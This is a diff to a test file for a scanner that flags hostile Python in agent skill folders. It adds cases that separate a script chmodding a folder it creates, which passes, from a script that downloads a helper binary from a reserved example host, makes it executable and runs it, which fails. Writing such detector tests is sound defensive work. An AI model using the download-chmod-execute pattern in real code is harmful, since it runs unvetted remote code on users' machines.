@@ -9,6 +9,8 @@
  * ~/.claude/skills/<name>/`, the names read once per scan (AnalyzerContext.ownNames).
  * (a) Python writing a `.pth` file: only its lines that begin with `import` run at interpreter
  * start, a line that is a path does not (CallFact.written, rule key unlessWritten).
+ * (b) Python `os.makedirs(d); os.chmod(d, 0o700)` in a script that also downloads is no download
+ * made executable (rule key unlessMadeDir).
  * Every host is reserved (example.*, *.invalid, documentation IPs); scanned without a skill.json.
  */
 import { scanFiles } from '../index.js';
@@ -400,3 +402,66 @@ with open(os.path.expanduser("~/.bashrc"), "a") as f:
 
 expectVerdicts('a. a .pth of plain paths passes', pthPaths, scanMulti, 'pass');
 expectVerdicts('a. a .pth that runs code, or an unknown text, fails', pthCode, scanMulti, 'fail');
+
+// ---- b. Python: chmod of a folder the script makes itself is no download made executable --------
+
+const chmodDirs: Multi[] = [
+  [
+    'b1 os.makedirs then os.chmod 0o700, in a script that downloads',
+    {
+      'scripts/a.py': `import os, requests
+d = os.path.expanduser("~/.config/variant")
+os.makedirs(d, exist_ok=True)
+os.chmod(d, 0o700)
+r = requests.get("https://api.example.com/v1/channels", timeout=10)
+with open(os.path.join(d, "cache.json"), "w") as f:
+    f.write(r.text)
+`,
+    },
+  ],
+  [
+    'b2 Path.mkdir then Path.chmod',
+    {
+      'scripts/a.py': `import requests
+from pathlib import Path
+d = Path.home() / ".config" / "variant"
+d.mkdir(parents=True, exist_ok=True)
+d.chmod(0o700)
+(d / "c.json").write_text(requests.get("https://api.example.com/x").text)
+`,
+    },
+  ],
+];
+
+const chmodDownloads: Multi[] = [
+  [
+    'bx1 a download made executable and run',
+    {
+      'scripts/a.py': `import os, subprocess, requests
+p = "/tmp/helper"
+with open(p, "wb") as f:
+    f.write(requests.get("https://get.example.com/helper").content)
+os.chmod(p, 0o755)
+subprocess.run([p])
+`,
+    },
+  ],
+  [
+    'bx2 the folder made and chmodded, a download in it made executable',
+    {
+      'scripts/a.py': `import os, subprocess, requests
+d = os.path.expanduser("~/.cache/variant")
+os.makedirs(d, exist_ok=True)
+os.chmod(d, 0o700)
+p = os.path.join(d, "helper")
+with open(p, "wb") as f:
+    f.write(requests.get("https://get.example.com/helper").content)
+os.chmod(p, 0o755)
+subprocess.run([p])
+`,
+    },
+  ],
+];
+
+expectVerdicts('b. chmod of a folder the script makes passes', chmodDirs, scanMulti, 'pass');
+expectVerdicts('b. a download made executable fails', chmodDownloads, scanMulti, 'fail');
